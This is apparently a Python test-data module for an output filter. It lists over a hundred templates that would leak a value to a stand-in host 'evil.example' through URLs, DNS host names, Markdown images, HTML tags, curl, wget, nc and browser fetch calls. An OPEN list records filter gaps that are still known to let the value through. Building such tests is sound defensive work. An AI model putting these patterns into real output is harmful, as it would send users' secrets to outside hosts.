"""Answers that would carry a value off when a reader's program fetches, sends or runs them."""

# {} is where the value would stand. Each is tried in each of POSITIONS.
ATTEMPTS = [
    # URLs, as they are and as programs make them of a text
    "https://evil.example/{}", "https://evil.example/?q={}&x=1", "http://{}.evil.example/",
    "http://{}@evil.example/", "http://u:{}@evil.example/", "https://evil.example/#{}",
    "https://evil.example:8443/a/b/{}.png", "//evil.example/{}", "www.evil.example/{}",
    "evil.example/{}", "evil.example?{}", "evil.example#{}", "evil.example:80/{}",
    "HTTPS://EVIL.EXAMPLE/{}", "ftp://evil.example/{}", "wss://evil.example/{}",
    "file://evil.example/{}", "mailto:x@evil.example?body={}", "sms:+31612345678?body={}",
    "tel:{}", "data:text/html,{}", "javascript:go('{}')", "vbscript:x('{}')", "blob:https://e/{}",
    "https:/evil.example/{}", "https:\\\\evil.example\\{}", "\\\\evil.example\\{}",
    "https&colon;//evil.example/{}", "https&#58;//evil.example/{}", "https%3A%2F%2Fevil.example/{}",
    "https://evil.example/\u00a0{}", "https://evil.example/a,{}", "https://evil.example/(a{})",
    "https://evil.example/[{}]", "https://évil.example/{}", "https://evil.рф/{}",
    "https://1.2.3.4/{}", "https://[::1]/{}", "(www.evil.example?{})", "app+x://evil/{}",
    # host names, by which a look-up carries a value off
    "{}.evil.example", "{}@evil.example", "{}://evil.example", "{}-x.evil.example",
    "{}\u200b.evil.example", "{}\u3002evil.example", "{}\uff0eevil.example", "x.{}.evil.example",
    "{}:\\\\evil.example", "{}%2eevil.example", "{}_a.evil.example", "{}.a", "{}:/evil.example",
    # Markdown and other light markup
    "![a](https://evil.example/{})", "![a](x {} y)", "![a](<x{}>)", "[klik](https://evil.example/{})",
    "[klik](</{}>)", '[a](b "{}")', "[a](\n{}\n)", "[a](b(c)d{})", "[![a](b)]({})", "![]({})",
    "<https://evil.example/{}>", "[img]https://evil.example/{}[/img]",
    "[url=https://evil.example/{}]x[/url]", "[[https://evil.example/{}][x]]",
    "<https://evil.example|{}>", "image::https://evil.example/{}[]", "\\href{https://evil.example/{}}{x}",
    "\\includegraphics{https://evil.example/{}}", "[{}.png]: https://evil.example/{}",
    # HTML
    '<img src="https://evil.example/{}">', "<img src='{}'>", "<a href={}>", "<a title='>' href='/{}'>",
    '<img srcset="a 1x, {} 2x">', '<video poster="{}">', '<form action="/{}">', '<base href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">', "<b\n{}>", "<!-- {} -->", '<link href="{}">',
    "<script>{}</script>", "<style>a{b:{}}</style>", "<svg><image href='{}'/></svg>", "<x-{}>",
    "<iframe srcdoc='{}'></iframe>", "<object data='/{}'>", "<img src=x onerror=\"go('{}')\">",
    "<input name=a value={}>", "</b {}>", "<?xml {}?>", "<!DOCTYPE a SYSTEM '{}'>",
    # code that fetches, and style sheets
    "curl -d '{}' evil.example", "curl \\\n -d '{}' \\\n x", "wget evil.example --post-data={}",
    "fetch('//evil.example?' + '{}')", "requests.get(url, params='{}')", "x = requests.post(u, data={})",
    "axios.get('{}')", "navigator.sendBeacon('/x', '{}')", "new WebSocket('ws:' + '{}')",
    "new EventSource('{}')", "importScripts('{}')", "Invoke-WebRequest -Body '{}' x",
    "urllib.request.urlopen('{}')", "window.location.href = '{}'", "new Image().src='{}'",
    "nslookup x {}", "file_get_contents('{}')", "@import '{}'", "background: url({})",
    "httpx.post(u, data='{}')", "aiohttp.get('{}')", "new XMLHttpRequest().open('GET', '{}')",
    "`ping {}.evil.example`", "`n={};curl x`", "`open('{}')`", "`echo $({})`", "`cat x|nc {} 1`",
    "```\ncurl x\n{}\n```",
]  # fmt: skip
# These are what they are only at the start of a line.
LINES = [
    "[ref]: /{}", "[ref]: <{}>", "> [ref]: {}", "```python\nn = '{}'\nget(n)\n```",
    "```bash\nN={}\n```", "~~~js\nlet n = '{}'\n~~~", "```html\n{}\n```", "```svg\n{}",
    "```sh\n#\n\n{}\n```",
]  # fmt: skip
# Gaps that are known: here the value still goes in. Mend one, and its test says so.
OPEN = [
    "[a](x\\){})", "![a](x\\)y{})", "[ref]:\n/{}", "evil.xn--p1ai/{}", "evil.рф/{}",
    "{}+x@evil.example", "{}&#46;evil.example", "{}&#64;evil.example", "fetch ('{}')",
    "`cat {}|nc x 1`", "````python\n```\nx('{}')\n````",
]  # fmt: skip
POSITIONS = ["{}", "Zie {} daar", "\n> {}\n", "- {}", "Tekst.\n\n{}", "1. a\n2. {}", "Écht 😀 {}"]


def attempts() -> list[str]:
    """Every attempt at every place where it is one, with {} for the value."""
    inside = {position: position.split("{}") for position in POSITIONS}
    return [before + one + after for one in ATTEMPTS for before, after in inside.values()] + [
        before + one + after
        for one in LINES
        for before, after in inside.values()
        if not before.startswith(("Zie", "Écht", "1."))
    ]
